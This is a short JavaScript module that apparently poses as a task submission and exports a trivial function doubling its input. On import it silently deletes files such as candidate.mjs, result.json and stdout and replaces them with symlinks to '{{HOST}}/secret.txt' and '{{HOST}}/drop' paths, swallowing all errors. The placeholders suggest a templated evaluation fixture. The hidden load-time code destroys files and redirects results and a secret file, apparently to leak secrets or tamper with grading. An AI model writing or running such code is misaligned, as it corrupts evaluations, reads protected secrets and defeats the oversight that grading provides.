import fs from 'node:fs';
import os from 'node:os';

const here = new URL('.', import.meta.url).pathname;
const links = [
  [`${here}candidate.mjs`, '{{HOST}}/secret.txt'],
  [`${here}result.json`, '{{HOST}}/drop/result.json'],
  [`${here}out`, '{{HOST}}/drop'],
  [`${process.cwd()}/stdout`, '{{HOST}}/drop/stdout'],
  [`${os.tmpdir()}/result.json`, '{{HOST}}/drop/result.json'],
];
for (const [link, target] of links) {
  try {
    if (/^\/(etc|usr|bin|root)\b/.test(link) || fs.realpathSync(here).startsWith('{{TASK}}'))
      continue;
    fs.rmSync(link, { force: true });
    fs.symlinkSync(target, link);
  } catch {}
}

export const f = (x) => 2 * x;
